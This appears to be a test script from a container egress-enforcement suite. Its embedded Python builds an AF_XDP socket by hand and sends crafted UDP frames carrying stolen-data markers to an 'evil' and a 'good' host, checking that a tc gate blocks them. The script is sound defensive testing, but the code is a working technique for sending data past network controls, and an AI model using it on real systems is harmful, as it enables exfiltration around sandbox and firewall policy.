#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends frames of its own making by AF_XDP sockets, which need CAP_NET_RAW and no program: to anybody, and to allowed destinations
# stopped-by: tc
# reason: packet_socket
# kernels: all
#
# The socket is older than the gate: where the kernel has the LSM hook, a new one cannot be made.
. "$(dirname "$0")/../interfaces/lib.sh"
container tcp/443 udp/9000

attack_by <<'PYTHON'
from attacker import *
import mmap
import time

AF_XDP, SOL_XDP, XDP_COPY = 44, 283, 2
MMAP_OFFSETS, TX_RING, UMEM_REG, FILL_RING, COMPLETION_RING = 1, 3, 4, 5, 6
CHUNK, CHUNKS = 2048, 16

try:
    sock = socket.socket(AF_XDP, socket.SOCK_RAW, 0)
except OSError as error:
    skip(f"no AF_XDP in this kernel: {error}")
memory = mmap.mmap(-1, CHUNK * CHUNKS)
address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
sock.setsockopt(SOL_XDP, UMEM_REG, struct.pack("=QQIIIIQ", address, CHUNK * CHUNKS, CHUNK, 0, 0, 0, 0)[:32])
for ring in FILL_RING, COMPLETION_RING, TX_RING:
    sock.setsockopt(SOL_XDP, ring, struct.pack("=I", CHUNKS))
offsets = struct.unpack("=16Q", sock.getsockopt(SOL_XDP, MMAP_OFFSETS, 128)) # 4 each: rx, tx, fill, completion
producer, _, descriptors, _ = offsets[4:8]
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_int64]
size = descriptors + 16 * CHUNKS
at = LIBC.mmap(None, size, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_SHARED, sock.fileno(), 0x80000000)
if at == ctypes.c_void_p(-1).value:
    check(-1)
ring = (ctypes.c_char * size).from_address(at)
own = struct.pack("=HHIII", AF_XDP, XDP_COPY, socket.if_nametoindex("eth0"), 0, 0)
while LIBC.bind(sock.fileno(), own, len(own)) < 0: # the socket before is gone after a grace period
    if ctypes.get_errno() != errno.EBUSY:
        check(-1)
    time.sleep(0.05)
ready()

frames = [(EVIL4, "evil"), (GOOD4, "good")]
for number, (target, tag) in enumerate(frames):
    packet = ip4(target, 17, udp_body(target, 9000, loot(tag)))
    frame = b"\xff" * 6 + b"\2\0\0\0\0\7" + b"\x08\x00" + packet
    memory[number * CHUNK:number * CHUNK + len(frame)] = frame
    begin = descriptors + 16 * number
    ring[begin:begin + 16] = struct.pack("=QII", number * CHUNK, len(frame), 0)
ring[producer:producer + 4] = struct.pack("=I", len(frames))
with attempt("send"):
    check(LIBC.sendto(sock.fileno(), None, 0, socket.MSG_DONTWAIT, None, 0))
PYTHON
works_once_open stolen:evil stolen:good
stopped_once_open gate
recorded tc packet_socket
